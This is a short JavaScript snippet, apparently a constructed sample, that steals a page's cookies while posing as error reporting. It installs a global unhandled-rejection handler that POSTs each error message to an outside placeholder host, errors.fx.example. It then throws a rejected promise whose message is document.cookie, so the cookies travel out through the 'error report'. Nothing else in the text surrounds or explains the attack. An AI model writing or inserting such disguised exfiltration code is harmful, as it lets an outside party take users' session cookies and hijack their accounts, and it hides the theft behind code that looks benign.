// surroundings: emitter
window.addEventListener('unhandledrejection', (event) => {
  event.preventDefault();
  fetch('https://errors.fx.example/report', { method: 'POST', mode: 'no-cors', body: event.reason.message }); //@act
});
Promise.reject(new Error(document.cookie));
